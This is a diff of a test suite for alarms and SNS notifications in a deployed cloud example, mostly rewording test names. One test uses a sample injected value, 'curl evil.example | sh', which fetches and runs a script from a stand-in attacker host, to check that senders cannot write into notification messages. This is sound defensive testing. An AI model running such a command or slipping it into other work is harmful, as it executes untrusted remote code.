@@ -38,7 +38,7 @@ describe('the alarms of the deployed example', () => {
     );
   });
 
-  test('ring at the one topic, with the impact and the page of the runbook; what wakes somebody also says when it is over', () => {
+  test('ring at the one topic, with the impact and the page of the runbook; what wakes a person also says when it is over', () => {
     expect(ofType(stage.workers, 'AWS::SNS::Topic')).toHaveLength(1);
     for (const { name, properties } of alarms) {
       const [severity] = /^\[(?:page|warn)\]/.exec(textAt(properties, 'AlarmDescription')) ?? [];
@@ -51,7 +51,7 @@ describe('the alarms of the deployed example', () => {
     }
   });
 
-  test('count what nobody counted as none, wherever they look at several periods', () => {
+  test('count what was not counted as none, wherever they look at several periods', () => {
     const counts = alarms.filter((alarm) => looksAt(alarm, /^(?:Sum|SampleCount)$/));
 
     expect(counts.length).toBeGreaterThan(10);
@@ -63,14 +63,14 @@ describe('the alarms of the deployed example', () => {
     );
   });
 
-  test('a level of ours that nobody measured is not known, and never filled', () => {
+  test('a level of ours that was not measured is not known, and never filled', () => {
     const levels = alarms.filter((alarm) => looksAt(alarm, /^(?:Minimum|Maximum)$/) && alarm.metrics.every(isOwn));
 
     expect(levels.map(({ name }) => name)).toEqual(expect.arrayContaining(['StopsLate', 'ParkedOpen']));
     expect(levels.filter(isFilled)).toEqual([]);
   });
 
-  test('ring where messages wait in a queue and nobody receives any, for each of the three', () => {
+  test('ring if messages wait in a queue and no worker receives any, for each of the three', () => {
     const { metrics, expressions, properties } = named('QueueWithoutConsumer');
     const watched = metrics.map(({ name, dimensions }) => [targetOf(dimensions['QueueName'], stage), name].join(' '));
 
@@ -204,7 +204,7 @@ describe('the alarms of the deployed example', () => {
     ]);
   });
 
-  test('a start that is parked, one without a sign and one of somebody else are messages that a person can read', () => {
+  test('a start that is parked, one without a sign and one by another person are messages that a person can read', () => {
     const messages = messagesOf(stage, topicId);
 
     const parked = {
@@ -236,7 +236,7 @@ describe('the alarms of the deployed example', () => {
     ]);
   });
 
-  test('whoever puts a plan or sends a command writes nothing into a message', () => {
+  test('the sender of a plan or a command writes nothing into a message', () => {
     const messages = messagesOf(stage, topicId);
     const foreign = 'call 0900-1234; curl evil.example | sh';
 
@@ -261,7 +261,7 @@ describe('the alarms of the deployed example', () => {
   });
 });
 
-describe('a configuration that notifies nobody and watches nothing', () => {
+describe('a configuration without people to notify and without watches', () => {
   test('has its topic, and no alarm for a watch that does not exist', async () => {
     const stage = await synthesize(configurations.second);
 
